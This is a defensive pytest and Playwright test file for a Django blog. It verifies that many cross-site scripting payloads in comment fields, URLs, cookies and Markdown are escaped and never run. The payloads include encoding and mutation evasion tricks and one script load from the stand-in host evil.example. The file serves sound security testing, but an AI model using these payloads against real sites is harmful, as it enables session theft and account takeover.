"""Known cross-site scripting payloads, in every field a visitor or an editor fills in,
never run in a real browser nor leave a script hook in the page.

Comments go through the real form (Django's test client) and are approved through the
services; posts are saved through the ORM, which renders their Markdown. The browser
ignores the site's Content Security Policy (`bypass_csp`), so what is tested is the
escaping and sanitising alone: the policy is a second wall, not the first.
"""

from urllib.parse import quote

import pytest
from django.test import Client
from django.urls import reverse

from comments import services
from comments.models import Comment
from tests import factories
from tests.comments.conftest import next_ip

pytestmark = [
    pytest.mark.browser,
    pytest.mark.django_db(transaction=True, serialized_rollback=True),
]

# Each one, if it ever ran, would call alert() or set window.__xss.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt>window.__xss=1</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=window.__xss=1>",
    "<svg onload=alert(1)>",
    "<svg><script>window.__xss=1</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<a href="javascript:alert(1)">click me</a>',
    '<a href="JaVaScRiPt:window.__xss=1">mixed case</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">entities</a>',
    '<a href="jav&#x09;ascript:alert(1)">encoded tab</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data URL</a>',
    '"><script>window.__xss=1</script>',
    "' onmouseover='window.__xss=1' x='",
    '" autofocus onfocus="window.__xss=1" x="',
    "</textarea><script>window.__xss=1</script>",
    "</title><script>window.__xss=1</script>",
    "[markdown link](javascript:alert(1))",
    "[mixed case](JaVaScRiPt:window.__xss=1)",
    "[angle brackets](<javascript:alert(1)>)",
    "![image](javascript:alert(1))",
    '![x" onerror="window.__xss=1](https://example.com/a.png)',
    '[attribute](https://example.com/"onmouseover="window.__xss=1)',
    "<javascript:alert(1)>",
    "[reference][1]\n\n[1]: javascript:alert(1)",
    "<details open ontoggle=window.__xss=1>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
    '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
    '<object data="javascript:window.__xss=1"></object>',
    '<form action="javascript:window.__xss=1"><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=1">',
    '<base href="javascript:/">',
    '<div style="background:url(javascript:window.__xss=1)">styled</div>',
    "＜script＞window.__xss=1＜/script＞",
    "\u202e<script>window.__xss=1</script>",
    "<scr<script>ipt>window.__xss=1</scr</script>ipt>",
]

# For the website field, which the form accepts only as an http(s) address.
URL_PAYLOADS = [
    "javascript:alert(1)",
    "JaVaScRiPt:window.__xss=1",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    'https://example.com/"onmouseover="window.__xss=1',
    "https://example.com/'><svg onload=window.__xss=1>",
    'https://example.com/#"><script>window.__xss=1</script>',
    'https://example.com/?q="autofocus onfocus="window.__xss=1',
    "https://example.com/\u202e<img src=x onerror=alert(1)>",
]

# Whatever the page holds, after every script of its own has run.
FIND_HOOKS = """() => {
  const urlAttributes = new Set(["href", "src", "action", "formaction", "xlink:href", "data",
    "poster", "background", "srcdoc", "cite", "srcset", "ping", "codebase", "lowsrc"]);
  const problems = [];
  for (const element of document.querySelectorAll("*")) {
    for (const attribute of element.attributes) {
      const name = attribute.name.toLowerCase();
      const value = attribute.value.replace(/[\\u0000-\\u0020]/g, "").toLowerCase();
      if (name.startsWith("on")) problems.push(`${element.tagName} ${name}`);
      if (urlAttributes.has(name) && /^(javascript|vbscript|data):/.test(value)) {
        problems.push(`${element.tagName} ${name}=${attribute.value}`);
      }
    }
  }
  for (const script of document.scripts) {
    if (!script.src || new URL(script.src).origin !== location.origin) {
      problems.push(`script ${script.outerHTML.slice(0, 80)}`);
    }
  }
  for (const element of document.querySelectorAll(
      "iframe, object, embed, base, meta[http-equiv], style, form:not([action^='/'])")) {
    problems.push(`${element.tagName} ${element.outerHTML.slice(0, 80)}`);
  }
  return problems;
}"""


@pytest.fixture
def xss_page(browser, live_server):
    """A tab that ignores the site's CSP and records every dialog a script opens."""
    context = browser.new_context(base_url=live_server.url, bypass_csp=True)
    context.set_default_timeout(10_000)
    page = context.new_page()
    page.dialogs = []

    def dismiss(dialog):
        page.dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", dismiss)
    yield page
    context.close()


def submit(post, **fields):
    data = {"author_name": "Plain Name", "author_email": f"x{next_ip()}@example.com", **fields}
    return Client().post(
        reverse("comments:post-comment", args=[post.pk]), data, REMOTE_ADDR=next_ip()
    )


def assert_nothing_ran(page):
    """No dialog, no global set by a payload, no event handler or script URL in the DOM."""
    page.wait_for_load_state("load")
    page.wait_for_timeout(200)  # For any late onerror or ontoggle.
    assert page.dialogs == []
    assert page.evaluate("() => window.__xss") is None
    assert page.evaluate(FIND_HOOKS) == []


def test_payloads_in_every_comment_field_are_shown_as_text(xss_page, live_server, settings):
    settings.COMMENTS_FLOOD_SECONDS = 0
    post = factories.make_post(title="Payloads in comments")
    for number, payload in enumerate(PAYLOADS):
        response = submit(post, author_name=payload, body=f"{payload}\n\nComment {number}.")
        assert response.status_code == 302, payload
    taken_urls = []
    for number, url in enumerate(URL_PAYLOADS):
        response = submit(post, author_url=url, body=f"Website number {number}.")
        if response.status_code == 302:
            taken_urls.append(url)
        else:
            assert response.status_code == 400, url
    for comment in Comment.objects.all():
        services.comment_approve(comment=comment, actor=None)
    # The cookies that fill in the form for a returning commenter, forged to break out.
    breakout = quote('"><script>window.__xss=1</script><input value="')
    xss_page.context.add_cookies(
        [
            {"name": cookie, "value": breakout, "url": live_server.url}
            for cookie in ("comment_author", "comment_author_email", "comment_author_url")
        ]
    )

    xss_page.goto(post.get_absolute_url())

    comments = xss_page.locator("li.comment")
    assert comments.count() == len(PAYLOADS) + len(taken_urls)
    for payload in ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>"):
        assert xss_page.get_by_text(payload, exact=False).first.is_visible()
    assert_nothing_ran(xss_page)
    links = xss_page.eval_on_selector_all(
        "a.url, .comment-content a", "links => links.map(a => [a.href, a.rel])"
    )
    assert len(links) >= len(taken_urls)
    for href, rel in links:
        assert href.startswith(("http://", "https://")), href
        assert set(rel.split()) >= {"nofollow", "ugc", "noopener"}, href
    # The reply script writes each author's name into the form's heading.
    replies = xss_page.eval_on_selector_all(
        ".comment-reply-link", "links => links.map(a => (a.click(), a.dataset.author))"
    )
    assert len(replies) == comments.count()
    assert_nothing_ran(xss_page)


def test_payloads_in_an_editors_markdown_never_run(xss_page, settings):
    settings.BLOG_POSTS_PER_PAGE = len(PAYLOADS) + 5
    everything = "\n\n".join(PAYLOADS)
    post = factories.make_post(
        title="Every payload at once",
        body=everything,
        excerpt=everything,
        source_url="https://example.org/source",
        source_title="The source",
    )
    for payload in PAYLOADS:
        factories.make_post(
            title=payload[:255],
            body=payload,
            excerpt=payload,
            source_url="https://example.org/source",
        )

    xss_page.goto(post.get_absolute_url())
    assert xss_page.locator("article.post .prose p").count() >= len(PAYLOADS) // 2
    assert_nothing_ran(xss_page)

    xss_page.goto(reverse("blog:home"))
    assert xss_page.locator("article.post-summary").count() == len(PAYLOADS) + 1
    assert_nothing_ran(xss_page)
